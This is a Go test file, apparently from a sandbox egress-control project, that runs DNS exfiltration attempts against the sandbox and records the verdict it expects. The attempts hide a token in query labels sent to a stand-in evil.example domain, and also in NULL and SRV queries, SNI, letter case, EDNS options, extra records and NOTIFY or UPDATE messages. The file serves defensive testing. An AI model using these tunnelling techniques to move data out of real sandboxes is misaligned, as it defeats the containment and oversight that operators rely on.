//go:build linux

package gauntlet

import (
	"errors"
	"fmt"
	"strings"

	"github.com/miekg/dns"

	"github.com/weir-dev/weir/internal/playground"
)

// questionRows carry something out in the name of a question.
func questionRows() []Row {
	const kept = "dns-query hostname={token}.evil.example verdict=deny reason=dns-blocked rcode=NXDOMAIN"
	ask := func(network string, qtype uint16) func(*Attacker) error {
		return func(a *Attacker) error {
			_, err := a.ask(network, "", a.leak(), qtype)
			return err
		}
	}
	return []Row{
		{
			ID: "dns/label", Vector: "data in the label of a question to the resolver", Right: "a question that no rule covers is answered here",
			Source: "sandbox-runtime #88, sandbox-runtime #3, OpenShell #1169, microsandbox #675, CubeSandbox PR #1183, httpjail #53, gh-aw-firewall docs", Rules: shopOnly, Lifted: evilZone,
			Attack: ask("udp", dns.TypeA), Harm: Heard, Record: []string{kept + " qtype=A"},
		},
		{
			ID: "dns/label-tcp", Vector: "the same over TCP", Right: "the same",
			Source: "harden-runner GHSA-g699-3x6g-wm3g, vm0 #21263, microsandbox PR #585", Rules: shopOnly, Lifted: evilZone,
			Attack: ask("tcp", dns.TypeA), Harm: Heard, Record: []string{kept + " qtype=A"},
		},
		{
			ID: "dns/label-null", Vector: "a question of type NULL, which tunnels over DNS like", Right: "every type is judged alike",
			Source: "nDPI dns-tunnel-iodine", Rules: shopOnly, Lifted: evilZone,
			Attack: ask("udp", dns.TypeNULL), Harm: Heard, Record: []string{kept + " qtype=NULL"},
		},
		{
			ID: "dns/claim", Vector: "data in a server name, for the sandbox to look up itself", Right: "only a claim that is allowed is worth a question",
			Source: "the gauntlet", Rules: shopOnly, Lifted: evilZone, Prepare: Stranger,
			Attack: func(a *Attacker) error { return a.tellTLS(a.stranger(443), a.leak()) },
			Harm:   Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} sni={token}.evil.example reason=default"},
		},
		{
			ID: "dns/service", Vector: "data in _service._proto labels before a name that is allowed alone", Right: "a service has a name of 15 octets at most",
			Source: "the gauntlet, RFC 6335 5.1", Rules: shopOnly, Lifted: []string{"--allow", "shop.example", "--allow", "*.shop.example"},
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", "_"+a.Token+"._"+a.Token+".shop.example", dns.TypeSRV)
				return err
			},
			Harm: Heard, Record: []string{"dns-query hostname=_{token}._{token}.shop.example verdict=deny reason=dns-blocked"},
		},
		{
			ID: "dns/reverse", Vector: "data in the nibbles of a reverse question", Right: "a reverse name is a name",
			Source: "security.md 2.2", Rules: shopOnly, Lifted: []string{"--mode", "enforce", "--allow", "@public:*"},
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", nibbles(a.Token)+".ip6.arpa", dns.TypePTR)
				return err
			},
			Harm: func(s *Stage) bool { return s.World.Asked(nibbles(s.Token)) }, Record: []string{"dns-query qtype=PTR verdict=deny reason=dns-blocked"},
		},
	}
}

// wildcardRows carry something out below a name that is allowed with all below it.
func wildcardRows() []Row {
	return []Row{
		{
			ID: "dns/case", Vector: "data in the case of letters, below a wildcard that is allowed", Right: "the name goes on in lower case",
			Source: "draft-vixie-dnsext-dns0x20", Rules: []string{"--allow", "*.loud.example"},
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", strings.ToUpper(a.Token)+".loud.example", dns.TypeA)
				return err
			},
			Harm:   func(s *Stage) bool { return s.World.HeardAt(playground.DNSServer, strings.ToUpper(s.Token)) },
			Record: []string{"dns-query hostname={token}.loud.example verdict=allow"},
		},
		{
			ID: "dns/budget", Vector: "more data than anybody needs to ask, in long names below a wildcard that is allowed", Right: "each domain has a budget; above it nothing leaves",
			Source: "nDPI dns_exfiltration, OpenShell docs", Rules: evilZone,
			Attack: func(a *Attacker) error {
				filler := strings.Repeat(strings.Repeat("x", 60)+".", 3)
				for i := range 400 {
					a.ask("udp", "", fmt.Sprintf("%d.%sevil.example", i, filler), dns.TypeA)
				}
				_, err := a.ask("udp", "", a.Token+"."+filler+"evil.example", dns.TypeA)
				return err
			},
			Harm: Heard, Record: []string{"dns-query verdict=deny reason=limit rule=builtin:dns-octets"},
		},
		{
			ID: "dns/dot-in-label", Vector: "one label with a dot in it, which as text ends like an allowed name", Right: "labels are compared, not text",
			Source: "flow/policy", Rules: []string{"--allow", "*.shop.example"}, Lifted: observed,
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", a.Token+`\.shop.example`, dns.TypeA)
				return err
			},
			Harm: Heard, Record: []string{"dns-query verdict=deny reason=malformed"},
		},
	}
}

// nibbles spells the token as a reverse name would.
func nibbles(token string) string { return strings.Join(strings.Split(token[1:], ""), ".") }

// messageRows carry something out beside the name.
func messageRows() []Row {
	row := func(id, vector, right, source string, record []string, message func(a *Attacker) *dns.Msg) Row {
		return Row{
			ID: "dns/" + id, Vector: vector, Right: right, Source: source, Rules: shopOnly,
			Attack: func(a *Attacker) error { return a.sendMessage("", message(a)) },
			Harm:   Heard, Record: record,
		}
	}
	refused := []string{"dns-query verdict=deny reason=malformed"}
	return []Row{
		row("edns", "data in an EDNS option of a question that is allowed", "options stay between neighbours", "RFC 6891 6.2.6", []string{"dns-query hostname=shop.example verdict=allow"}, func(a *Attacker) *dns.Msg {
			m := query("shop.example", dns.TypeA)
			m.SetEdns0(1232, false)
			opt := m.IsEdns0()
			opt.Option = append(opt.Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(a.Token)})
			return m
		}),
		row("additional", "data in an additional record of a question that is allowed", "nothing of the message goes on but the question", "security.md 2.2", []string{"dns-query hostname=shop.example verdict=allow"}, func(a *Attacker) *dns.Msg {
			m := query("shop.example", dns.TypeA)
			m.Extra = append(m.Extra, &dns.TXT{Hdr: dns.RR_Header{Name: "shop.example.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.Token}})
			return m
		}),
		row("class", "a question of another class than IN", "refused, not sent on", "security.md 2.2", refused, func(a *Attacker) *dns.Msg {
			m := query(a.Token+".bind", dns.TypeTXT)
			m.Question[0].Qclass = dns.ClassCHAOS
			return m
		}),
		row("notify", "a NOTIFY instead of a question", "refused, not sent on", "RFC 1996", refused, func(a *Attacker) *dns.Msg {
			return new(dns.Msg).SetNotify(a.leak() + ".")
		}),
		row("update", "a dynamic update of the zone of an allowed name", "refused, not sent on", "RFC 2136", nil, func(a *Attacker) *dns.Msg {
			m := new(dns.Msg).SetUpdate("shop.example.")
			rr, _ := dns.NewRR(a.Token + ".shop.example. 60 IN A 192.0.2.1")
			m.Insert([]dns.RR{rr})
			return m
		}),
		row("two-questions", "an allowed question and another one in the same message", "one message, one question", "RFC 9619", nil, func(a *Attacker) *dns.Msg {
			m := query("shop.example", dns.TypeA)
			m.Question = append(m.Question, query(a.leak(), dns.TypeA).Question...)
			return m
		}),
		row("answer-bit", "a question that says it is an answer", "not sent on", "RFC 1035 7.3", nil, func(a *Attacker) *dns.Msg {
			m := query(a.leak(), dns.TypeA)
			m.Response = true
			return m
		}),
	}
}

// ownNameRows ask for names that are nobody's business outside, or that help to do without weir.
func ownNameRows() []Row {
	finds := func(name string, qtype uint16) func(*Attacker) error {
		return func(a *Attacker) error {
			q := query(name, qtype)
			conf, err := dns.ClientConfigFromFile("/etc/resolv.conf")
			if err != nil {
				return err
			}
			r, _, err := (&dns.Client{Timeout: patience}).Exchange(q, conf.Servers[0]+":53")
			if err != nil {
				return err
			}
			if len(r.Answer) == 0 || qtype == dns.TypeHTTPS && !strings.Contains(r.Answer[0].String(), "ech=") {
				return errors.New("not in the answer")
			}
			return nil
		}
	}
	return []Row{
		{
			ID: "dns/localhost", Vector: "data below localhost", Right: "answered here, whatever is allowed",
			Source: "RFC 6761 6.3", Rules: everywhere,
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", a.Token+".localhost", dns.TypeA)
				return err
			},
			Harm: Heard, Record: []string{"dns-query hostname={token}.localhost rule=builtin:localhost"},
		},
		{
			ID: "dns/onion", Vector: "the name of an onion service", Right: "never asked, whatever is allowed",
			Source: "RFC 7686", Rules: everywhere,
			Attack: func(a *Attacker) error {
				_, err := a.ask("udp", "", a.Token+".onion", dns.TypeA)
				return err
			},
			Harm: Heard, Record: []string{"dns-query hostname={token}.onion verdict=deny rule=builtin:onion"},
		},
		{
			ID: "dns/canary", Vector: "the name by which a browser finds out whether it may use DNS over HTTPS", Right: "it does not exist",
			Source: "security.md 2.2", Rules: everywhere, Lifted: observed,
			Attack: finds("use-application-dns.net", dns.TypeA), Record: []string{"dns-query hostname=use-application-dns.net verdict=deny reason=encrypted-dns"},
		},
		{
			ID: "dns/designated", Vector: "the encrypted resolver that the network designates", Right: "none is designated",
			Source: "RFC 9462", Rules: everywhere, Lifted: observed,
			Attack: finds("_dns.resolver.arpa", dns.TypeSVCB), Record: []string{"dns-query hostname=_dns.resolver.arpa verdict=deny reason=encrypted-dns"},
		},
		{
			ID: "dns/ech-key", Vector: "the key with which to encrypt a server name, from an HTTPS record", Right: "taken out, so that names stay readable",
			Source: "RFC 9848; no peer does", Rules: shopOnly, Lifted: observed,
			Attack: finds("shop.example", dns.TypeHTTPS), Record: []string{"dns-query hostname=shop.example qtype=HTTPS verdict=allow"},
		},
	}
}
